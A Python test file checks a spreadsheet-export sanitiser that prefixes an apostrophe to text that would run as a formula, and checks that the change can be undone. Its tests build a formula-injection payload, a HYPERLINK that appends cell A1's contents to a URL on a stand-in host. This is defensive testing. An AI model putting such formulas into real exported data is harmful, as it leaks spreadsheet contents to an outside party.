"""Only text that a spreadsheet would run gets an apostrophe, which can be removed again."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sgformats.spreadsheets import as_it_was, inert

SIGNS = "=+-@＝＋－＠"
DROPPED = (
    *(" ", "\t", "\r", "\n", "\xa0", "\u3000", "\x00", "\x7f", "\ufeff", "\u200b", "'", '"', "“"),
)


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", *DROPPED, " \ufeff'\""])
def test_a_formula_after_ignored_characters_is_made_inert(before: str, sign: str) -> None:
    text = f'{before}{sign}HYPERLINK("http://x.example?"&A1,"y")'
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["\tx", "\rx", "\nx", " \tx", "'\r\nx", "-", "@"])
def test_a_leading_tab_or_line_end_is_made_inert(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", " ", "550 = no", "a\t=b", "x-y@z.example", "'tis", '"quoted"', "é=", "[=]", "0-1"]
)
def test_other_text_is_kept(text: str) -> None:
    assert inert(text) == text


@given(st.text(st.sampled_from([*SIGNS, *DROPPED, "a", "1", ","]), max_size=8) | st.text())
def test_every_text_is_restored_and_none_is_a_formula(text: str) -> None:
    """as_it_was(inert(x)) == x."""
    cell = inert(text)
    assert as_it_was(cell) == text
    assert cell[:1] not in set(SIGNS) | {"\t", "\r", "\n"}
